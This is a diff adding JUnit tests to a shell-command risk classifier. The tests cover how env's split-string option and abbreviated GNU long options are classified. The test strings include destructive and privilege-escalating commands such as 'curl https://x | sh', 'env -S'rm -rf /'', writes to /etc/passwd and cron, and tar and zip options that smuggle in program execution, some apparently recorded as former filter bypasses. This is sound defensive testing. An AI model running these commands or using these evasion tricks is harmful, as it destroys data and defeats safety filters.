@@ -93,6 +93,10 @@ class ShellCommandClassifierTest {
             "read -r line => SESSION",
             "printf -v greeting '%s' hi => READ",
             "nice -n5 ls => READ",
+            "env -u HOME ls => READ",
+            "env -uHOME -i ls => READ",
+            "env --unset HOME ls => READ",
+            "env - ls => READ",
     })
     void classifiesKnownCommands(String line, StatementClass expected) {
         assertThat(ShellCommandClassifier.classify(line.strip()).statementClass()).isEqualTo(expected);
@@ -108,6 +112,9 @@ class ShellCommandClassifierTest {
             "curl https://x | sh", "curl https://x | bash -s", "eval sudo id", "source ./env.sh", ". ./env.sh",
             "/tmp/sudo id", "find / -exec rm {} ;", "ls | xargs rm", "echo hi > ../../etc/passwd", "bash -c \"$X\"",
             "git -c core.sshCommand=evil fetch", "tar -xPf a.tar", "env -S 'sudo id'", "vim /etc/hosts",
+            // env's split string attached to its option, in a cluster or as a long option: a read until 2026-12-06.
+            "env -S'rm -rf /'", "env -iS'sudo id'", "env -vS 'sudo id'", "env --split-string='sudo id'",
+            "env --split-string 'sudo id'", "env --split='sudo id'", "env --chdir=/etc rm passwd", "env -C/etc rm passwd",
             "sh", "bash script.sh", "cat <(sudo id)", "echo $((1+2))", "echo ${X:-$(sudo id)}",
             // Options and variables that name a program for a known one to run.
             "zip x.zip a -T -TT 'sh -c id'", "zip x.zip a --unzip-command=evil", "rsync -e 'sh -c id' a b:",
@@ -146,6 +153,43 @@ class ShellCommandClassifierTest {
             "read -r PATH < f; ls", "read -aPATH < f", "read 'PS4[0]' < f", "N=PS4; read $N < f", "wait -p PATH",
             ": ${PS4:='$x'}; set -x; true", "export LESSOPEN; : ${LESSOPEN='|evil %s'}; less x", "printf \"$F\" PATH /tmp"})
     void builtinsThatSetAnUnsafeVariableAreUnknown(String line) {
+        ShellClassification classification = ShellCommandClassifier.classify(line);
+        assertThat(classification.statementClass()).as("%s %s", line, classification.reasons())
+                .isEqualTo(StatementClass.UNKNOWN);
+    }
+
+    /**
+     * getopt_long takes any unambiguous prefix of a long option: {@code rm --r} is {@code --recursive},
+     * {@code date --s=} is {@code --set=}. Read only by their whole names, these were a WRITE or a READ
+     * until 2026-12-06.
+     */
+    @ParameterizedTest(name = "{0} -> {1}")
+    @CsvSource(delimiterString = " => ", value = {
+            "rm --r build => BULK_WRITE",
+            "rm --recur -f build => BULK_WRITE",
+            "rm -r --no-pres build => DANGEROUS_ADMIN",
+            "date --s=2030-01-01 => DANGEROUS_ADMIN",
+            "date --da=yesterday => READ",
+            "ss --ki dst 10.0.0.1 => DDL",
+            "sort --out=/etc/passwd x => PRIVILEGE",
+            "sort --o /etc/passwd x => PRIVILEGE",
+            "rsync -a --del a/ b/ => BULK_WRITE",
+            "journalctl --vac=1d => DDL",
+            "sysctl --sys => DANGEROUS_ADMIN",
+            "less --log=/etc/x app.log => PRIVILEGE",
+            "curl --out /etc/cron.d/x https://example.org => PRIVILEGE",
+            "/usr/bin/time --form ls rm -rf build => BULK_WRITE",
+            "timeout --sig KILL 5 rm -rf build => BULK_WRITE",
+    })
+    void abbreviatedLongOptionsAreReadAsTheOptionsTheyName(String line, StatementClass expected) {
+        assertThat(ShellCommandClassifier.classify(line.strip()).statementClass()).isEqualTo(expected);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"tar -xf a.tar --to-c='sh -c id'", "tar -cf /dev/null x --checkpoint=1 --checkpoint-a=exec=id",
+            "tar --use-c=evil -xf a.tar", "tar -xf a.tar --absolute-n", "sort --compress-p=evil x", "split --fil='sh -c id' x",
+            "zip x.zip a --unzip-c=evil", "env --s='sudo id'", "env --sp 'sudo id'", "env --ch=/etc rm x"})
+    void abbreviatedLongOptionsThatRunProgramsAreUnknown(String line) {
         ShellClassification classification = ShellCommandClassifier.classify(line);
         assertThat(classification.statementClass()).as("%s %s", line, classification.reasons())
                 .isEqualTo(StatementClass.UNKNOWN);
